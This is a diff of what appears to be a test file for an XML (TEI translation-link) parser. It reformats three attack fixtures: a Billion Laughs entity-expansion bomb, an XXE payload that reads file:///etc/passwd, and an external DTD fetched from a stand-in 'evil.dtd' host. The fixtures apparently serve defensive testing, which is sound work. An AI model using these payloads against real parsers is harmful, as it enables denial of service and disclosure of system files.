@@ -32,17 +32,23 @@ BILLION_LAUGHS = """<?xml version="1.0"?>
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
 ]>
-<TEI xmlns="http://www.tei-c.org/ns/1.0"><text><back><linkGrp type="translation"><link target="#src-s1 #tgt-s1" n="&lol9;"/></linkGrp></back></text></TEI>
+<TEI xmlns="http://www.tei-c.org/ns/1.0"><text><back><linkGrp type="translation">
+<link target="#src-s1 #tgt-s1" n="&lol9;"/>
+</linkGrp></back></text></TEI>
 """
 
 XXE = """<?xml version="1.0"?>
 <!DOCTYPE TEI [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
-<TEI xmlns="http://www.tei-c.org/ns/1.0"><text><back><linkGrp type="translation"><link target="#src-s1 #tgt-s1" n="&secret;"/></linkGrp></back></text></TEI>
+<TEI xmlns="http://www.tei-c.org/ns/1.0"><text><back><linkGrp type="translation">
+<link target="#src-s1 #tgt-s1" n="&secret;"/>
+</linkGrp></back></text></TEI>
 """
 
 XXE_PARAMETER = """<?xml version="1.0"?>
 <!DOCTYPE TEI SYSTEM "http://example.invalid/evil.dtd">
-<TEI xmlns="http://www.tei-c.org/ns/1.0"><text><back><linkGrp type="translation"><link target="#src-s1 #tgt-s1"/></linkGrp></back></text></TEI>
+<TEI xmlns="http://www.tei-c.org/ns/1.0"><text><back><linkGrp type="translation">
+<link target="#src-s1 #tgt-s1"/>
+</linkGrp></back></text></TEI>
 """
 
 
